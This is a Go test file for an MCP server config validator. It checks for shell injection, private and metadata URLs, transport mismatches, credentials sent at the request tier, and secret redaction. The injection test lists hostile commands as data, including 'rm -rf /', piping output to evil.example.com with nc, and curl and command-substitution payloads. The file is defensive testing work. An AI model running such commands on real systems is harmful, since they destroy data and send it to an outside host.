package mcp

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentgate/agentgate/gateway/internal/apierr"
	"github.com/agentgate/agentgate/gateway/pkg/models"
)

func stdioConfig(name, command string) models.MCPServerConfig {
	return models.MCPServerConfig{
		Name:      name,
		Transport: models.TransportStdio,
		Command:   command,
		Enabled:   true,
	}
}

func httpConfig(name, url string) models.MCPServerConfig {
	return models.MCPServerConfig{
		Name:      name,
		Transport: models.TransportHTTP,
		URL:       url,
		Enabled:   true,
	}
}

func TestValidateAcceptsWellFormedConfigs(t *testing.T) {
	v := &Validator{}

	assert.NoError(t, v.Validate(stdioConfig("fs", "/usr/local/bin/mcp-fs"), TierTenant))
	assert.NoError(t, v.Validate(httpConfig("search", "https://tools.example.com/mcp"), TierTenant))
	assert.NoError(t, v.Validate(models.MCPServerConfig{
		Name: "events", Transport: models.TransportSSE, URL: "https://sse.example.com/stream",
	}, TierTenant))
}

func TestValidateRejectsShellMetacharacters(t *testing.T) {
	v := &Validator{}

	for _, cmd := range []string{
		"rm -rf /; echo done",
		"tool | nc evil.example.com 4444",
		"tool && curl evil",
		"tool `whoami`",
		"tool $(id)",
	} {
		err := v.Validate(stdioConfig("bad", cmd), TierTenant)
		require.Error(t, err, "command %q", cmd)
		assert.Equal(t, "mcp_command_injection", apierr.From(err).Code)
	}
}

func TestValidateRejectsPrivateURLs(t *testing.T) {
	v := &Validator{}

	for _, url := range []string{
		"http://127.0.0.1:8080/mcp",
		"http://localhost/mcp",
		"http://10.1.2.3/mcp",
		"http://172.16.0.5/mcp",
		"http://192.168.1.1/mcp",
		"http://169.254.169.254/latest/meta-data",
		"http://[::1]/mcp",
	} {
		err := v.Validate(httpConfig("bad", url), TierTenant)
		require.Error(t, err, "url %q", url)
		assert.Equal(t, "mcp_private_url", apierr.From(err).Code)
	}
}

func TestValidateAllowsPrivateURLsWhenConfigured(t *testing.T) {
	v := &Validator{AllowPrivateURLs: true}
	assert.NoError(t, v.Validate(httpConfig("internal", "http://10.0.0.5:9000/mcp"), TierTenant))
}

func TestValidateTransportFieldMismatch(t *testing.T) {
	v := &Validator{}

	bad := stdioConfig("x", "/bin/tool")
	bad.URL = "https://example.com"
	assert.Error(t, v.Validate(bad, TierTenant))

	bad2 := httpConfig("y", "https://example.com")
	bad2.Command = "/bin/tool"
	assert.Error(t, v.Validate(bad2, TierTenant))

	assert.Error(t, v.Validate(models.MCPServerConfig{Name: "z", Transport: "smtp"}, TierTenant))
	assert.Error(t, v.Validate(models.MCPServerConfig{Transport: models.TransportStdio, Command: "/bin/tool"}, TierTenant))
}

func TestValidateRejectsRequestTierCredentials(t *testing.T) {
	v := &Validator{}

	withEnv := stdioConfig("fs", "/bin/tool")
	withEnv.Env = map[string]string{"API_KEY": "sk-live-123"}
	err := v.Validate(withEnv, TierRequest)
	require.Error(t, err)
	assert.Equal(t, "mcp_credential_in_request", apierr.From(err).Code)

	withHeader := httpConfig("search", "https://example.com/mcp")
	withHeader.Headers = map[string]string{"X-Auth-Token": "abc"}
	err = v.Validate(withHeader, TierRequest)
	require.Error(t, err)
	assert.Equal(t, "mcp_credential_in_request", apierr.From(err).Code)

	// Same values pass at the tenant tier, which is allowed to hold secrets.
	assert.NoError(t, v.Validate(withEnv, TierTenant))
}

func TestSanitizeConfigRedactsSecrets(t *testing.T) {
	cfg := stdioConfig("fs", "/bin/tool")
	cfg.Env = map[string]string{
		"API_KEY": "sk-live-123",
		"HOME":    "/home/agent",
	}

	out := SanitizeConfig(cfg)
	assert.Equal(t, Redacted, out.Env["API_KEY"])
	assert.Equal(t, "/home/agent", out.Env["HOME"])
	// Input untouched.
	assert.Equal(t, "sk-live-123", cfg.Env["API_KEY"])
}

func TestSanitizeMapRecurses(t *testing.T) {
	in := map[string]any{
		"password": "hunter2",
		"nested":   map[string]any{"secret": "s3cr3t", "plain": "ok"},
		"list":     []any{map[string]any{"token": "tok"}},
	}
	out := SanitizeMap(in)
	assert.Equal(t, Redacted, out["password"])
	assert.Equal(t, Redacted, out["nested"].(map[string]any)["secret"])
	assert.Equal(t, "ok", out["nested"].(map[string]any)["plain"])
	assert.Equal(t, Redacted, out["list"].([]any)[0].(map[string]any)["token"])
}
